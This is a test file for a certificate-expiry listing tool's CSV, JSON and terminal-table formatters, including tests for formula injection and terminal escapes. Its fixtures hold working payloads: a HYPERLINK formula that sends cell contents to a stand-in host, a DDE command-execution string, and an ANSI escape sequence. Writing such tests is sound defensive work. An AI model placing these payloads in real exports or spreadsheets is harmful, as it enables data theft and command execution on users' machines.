import { describe, expect, test } from 'vitest';
import type { AtRiskCertificate } from '../../src/subjects/device_certificate/model';
import { CSV_BOM, jsonRows, listHeadline, listRows, neutraliseFormula, toCsv, toJson, toTable, type ListRow } from '../../src/subjects/device_certificate/listFormat';

const now = new Date('2027-03-01T12:00:00.000Z');

function cert(over: Partial<AtRiskCertificate>): AtRiskCertificate {
  return {
    deviceName: 'iPhone-0001',
    userPrincipalName: 'ana@contoso.com',
    subjectName: 'CN=ana@contoso.com',
    issuerName: 'CN=Contoso Issuing CA 1',
    expirationDateTime: '2027-03-05T12:00:00Z',
    thumbprint: 'A1B2C3D4E5F60718293A4B5C6D7E8F9012345678',
    serialNumber: '6100000123456789ABCDEF',
    ...over,
  };
}

/**
 * A strict RFC 4180 reader, written apart from the writer so the test does not trust toCsv's own rules:
 * records end with CRLF, quoted fields double their quotes, anything else after a closing quote is an error.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && field === '') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
      if (i < text.length && text[i] !== ',' && !text.startsWith('\r\n', i)) throw new Error(`text after a closing quote at ${i}`);
      continue;
    }
    if (text[i] === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (text.startsWith('\r\n', i)) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else if (text[i] === '\r' || text[i] === '\n' || text[i] === '"') {
      throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
    } else {
      field += text[i++];
    }
  }
  if (field !== '' || record.length > 0) throw new Error('last record does not end with CRLF');
  return records;
}

describe('listRows: the window and the order', () => {
  const certs = [
    cert({ deviceName: 'far', expirationDateTime: '2027-04-15T00:00:00Z', thumbprint: 'F'.repeat(40) }),
    cert({ deviceName: 'expired', expirationDateTime: '2027-02-20T08:00:00Z', thumbprint: 'E'.repeat(40) }),
    cert({ deviceName: 'zulu', expirationDateTime: '2027-03-10T12:00:00.000Z', thumbprint: '2'.repeat(40) }),
    // The same instant written with a fraction and an offset: ties by device name, not by the text of the date.
    cert({ deviceName: 'alpha', expirationDateTime: '2027-03-10T13:00:00.0000000+01:00', thumbprint: '1'.repeat(40) }),
    cert({ deviceName: 'alpha', userPrincipalName: 'aaron@contoso.com', expirationDateTime: '2027-03-10T12:00:00Z', thumbprint: '3'.repeat(40) }),
    cert({ deviceName: 'edge', expirationDateTime: '2027-03-31T11:59:59Z', thumbprint: '4'.repeat(40) }),
    cert({ deviceName: 'just-over', expirationDateTime: '2027-04-01T12:00:00Z', thumbprint: '5'.repeat(40) }),
    cert({ deviceName: 'garbage', expirationDateTime: 'not a date', thumbprint: '6'.repeat(40) }),
  ];

  test('keeps whole days remaining (floored) up to the window, expired ones included, soonest first; ties by device then user', () => {
    const rows = listRows(certs, now, 30);
    expect(rows.map((r) => [r.deviceName, r.userPrincipalName, r.daysRemaining])).toEqual([
      ['expired', 'ana@contoso.com', -10],
      ['alpha', 'aaron@contoso.com', 9],
      ['alpha', 'ana@contoso.com', 9],
      ['zulu', 'ana@contoso.com', 9],
      ['edge', 'ana@contoso.com', 29],
    ]);
  });

  test('a certificate 30 days and 1 second away is 30 whole days: inside a 30-day window; 31 days is outside', () => {
    const rows = listRows([cert({ expirationDateTime: '2027-03-31T12:00:01Z' }), cert({ expirationDateTime: '2027-04-01T12:00:00Z' })], now, 30);
    expect(rows.map((r) => r.daysRemaining)).toEqual([30]);
  });

  test('the order does not depend on the input order', () => {
    const a = listRows(certs, now, 60).map((r) => r.thumbprint);
    const b = listRows([...certs].reverse(), now, 60).map((r) => r.thumbprint);
    expect(b).toEqual(a);
    expect(a).toHaveLength(7);
  });

  test('expiries come out in one canonical UTC form, and an unreadable expiry is left out (never "expired")', () => {
    const rows = listRows(certs, now, 60);
    expect(rows.every((r) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/.test(r.expirationDateTime))).toBe(true);
    expect(rows.find((r) => r.deviceName === 'alpha' && r.userPrincipalName === 'ana@contoso.com')?.expirationDateTime).toBe('2027-03-10T12:00:00.000Z');
    expect(rows.some((r) => r.deviceName === 'garbage')).toBe(false);
  });

  test('a window of 0 keeps what expires within the day and what has expired', () => {
    const rows = listRows([cert({ expirationDateTime: '2027-03-01T23:00:00Z' }), cert({ expirationDateTime: '2027-03-02T12:00:00Z' }), cert({ expirationDateTime: '2026-01-01T00:00:00Z' })], now, 0);
    expect(rows.map((r) => r.daysRemaining)).toEqual([-425, 0]);
  });
});

const hostile: ListRow[] = listRows(
  [
    cert({ deviceName: '=HYPERLINK("http://evil.example/?x="&A1,"click")', thumbprint: '1'.repeat(40), expirationDateTime: '2027-02-26T12:00:00Z' }),
    cert({ deviceName: "-cmd|' /C calc'!A0", userPrincipalName: '+1 555 0100', subjectName: '@SUM(1+1)', issuerName: '\tTab CA', thumbprint: '2'.repeat(40), expirationDateTime: '2027-03-02T12:00:00Z' }),
    cert({ deviceName: 'Lobby, "front desk"\r\nsecond line', subjectName: '\r=1+1', thumbprint: '3'.repeat(40), expirationDateTime: '2027-03-03T12:00:00Z' }),
    cert({ deviceName: 'Zoë’s iPad 🍎', userPrincipalName: '山田@contoso.jp', issuerName: 'CN=Société Générale CA', thumbprint: '4'.repeat(40), expirationDateTime: '2027-03-04T12:00:00Z' }),
  ],
  now,
  30,
);

describe('toCsv', () => {
  test('RFC 4180: header row, CRLF record ends, quotes doubled; the BOM makes Excel read UTF-8', () => {
    const csv = toCsv(hostile);
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = parseCsv(csv.slice(CSV_BOM.length));
    expect(records[0]).toEqual(['Device name', 'User', 'Certificate subject', 'Issuer', 'Expires (UTC)', 'Days remaining', 'Thumbprint', 'Serial number']);
    expect(records).toHaveLength(5);
    expect(records.every((r) => r.length === 8)).toBe(true);
    expect(records[3]![0]).toBe('Lobby, "front desk"\r\nsecond line');
    expect(csv).toContain('"Lobby, ""front desk""\r\nsecond line"');
  });

  test('without the BOM on request, for programs', () => {
    const csv = toCsv(hostile, { bom: false });
    expect(csv.charCodeAt(0)).toBe('D'.charCodeAt(0));
    expect(parseCsv(csv)).toHaveLength(5);
  });

  test('formula injection: every text cell starting with = + - @ tab or CR is prefixed with an apostrophe', () => {
    const records = parseCsv(toCsv(hostile, { bom: false }));
    const [, first, second, third] = records;
    expect(first![0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(second!.slice(0, 4)).toEqual(["'-cmd|' /C calc'!A0", "'+1 555 0100", "'@SUM(1+1)", "'\tTab CA"]);
    expect(third![2]).toBe("'\r=1+1");
    // No cell of any record (header included) starts with a formula character once read back.
    for (const record of records) for (const [i, cell] of record.entries()) if (i !== 5) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('days remaining stays a number: a negative count is written as -3, which Excel reads as a number, not a formula', () => {
    const records = parseCsv(toCsv(hostile, { bom: false }));
    expect(records.slice(1).map((r) => r[5])).toEqual(['-3', '1', '2', '3']);
  });

  test('non-ASCII survives as UTF-8 text', () => {
    const records = parseCsv(toCsv(hostile, { bom: false }));
    expect(records[4]!.slice(0, 4)).toEqual(['Zoë’s iPad 🍎', '山田@contoso.jp', 'CN=ana@contoso.com', 'CN=Société Générale CA']);
    expect(Buffer.from(toCsv(hostile), 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  test('an empty list is the header alone', () => {
    expect(toCsv([], { bom: false })).toBe('Device name,User,Certificate subject,Issuer,Expires (UTC),Days remaining,Thumbprint,Serial number\r\n');
  });

  test('neutraliseFormula leaves ordinary text alone', () => {
    expect(neutraliseFormula('iPhone de Zoë')).toBe('iPhone de Zoë');
    expect(neutraliseFormula('a=b')).toBe('a=b');
    expect(neutraliseFormula('')).toBe('');
    expect(neutraliseFormula('-')).toBe("'-");
  });
});

describe('toJson', () => {
  test('an array of objects with stable field names, in the list order, nothing else', () => {
    const extra = { ...hostile[0]!, secret: 'never shown' } as ListRow;
    const parsed = JSON.parse(toJson([extra, ...hostile.slice(1)])) as Array<Record<string, unknown>>;
    expect(parsed).toHaveLength(4);
    expect(Object.keys(parsed[0]!)).toEqual(['deviceName', 'userPrincipalName', 'subjectName', 'issuerName', 'expirationDateTime', 'daysRemaining', 'thumbprint', 'serialNumber']);
    expect(parsed.map((p) => p['daysRemaining'])).toEqual([-3, 1, 2, 3]);
    // JSON is data, not a spreadsheet: values are exact, not neutralised.
    expect(parsed[0]!['deviceName']).toBe('=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(parsed[3]!['userPrincipalName']).toBe('山田@contoso.jp');
    expect(jsonRows([])).toEqual([]);
    expect(toJson([])).toBe('[]');
  });
});

describe('toTable', () => {
  test('a headline with the count, the expired ones and the window, then aligned columns', () => {
    const text = toTable(hostile, 30);
    const lines = text.trimEnd().split('\n');
    expect(lines[0]).toBe('4 device certificates expiring within 30 days or expired (1 already expired), soonest first:');
    expect(lines).toHaveLength(6);
    const header = lines[1]!;
    // Every column starts at the same offset on every line (the rows have no wide characters before the thumbprint column).
    const thumbAt = header.indexOf('THUMBPRINT');
    for (const line of lines.slice(2, 5)) expect(line.slice(thumbAt, thumbAt + 40)).toMatch(/^(\d)\1{39}$/);
    // Days are right-aligned under their header.
    const daysEnd = header.indexOf('DAYS') + 4;
    expect(lines.slice(2, 5).map((l) => l.slice(daysEnd - 2, daysEnd))).toEqual(['-3', ' 1', ' 2']);
    // The last row has an emoji (two UTF-16 units, one code point): aligned by code points.
    const last = Array.from(lines[5]!);
    expect(last.slice(daysEnd - 2, daysEnd).join('')).toBe(' 3');
  });

  test('long values are clipped with …, control characters never reach the terminal', () => {
    const rows = listRows([cert({ deviceName: `Lobby\r\n\u001b[2J${'x'.repeat(60)}`, subjectName: '🍎'.repeat(40) })], now, 30);
    const text = toTable(rows, 30);
    const row = text.split('\n')[2]!;
    expect(row).not.toMatch(/[\u0000-\u001f]/);
    expect(row).toContain(`Lobby   [2J${'x'.repeat(12)}…`);
    expect(row).toContain(`${'🍎'.repeat(27)}…`);
    expect(row).not.toContain('\uFFFD');
  });

  test('an empty list is one clear sentence', () => {
    expect(toTable([], 14)).toBe('No device certificate expires within 14 days, and none has expired.\n');
    expect(toTable([])).toBe('No device certificate is at risk: none expires soon and none has expired.\n');
    expect(listHeadline(listRows([cert({})], now, 7), 7)).toBe('1 device certificate expiring within 7 days or expired, soonest first:');
  });
});
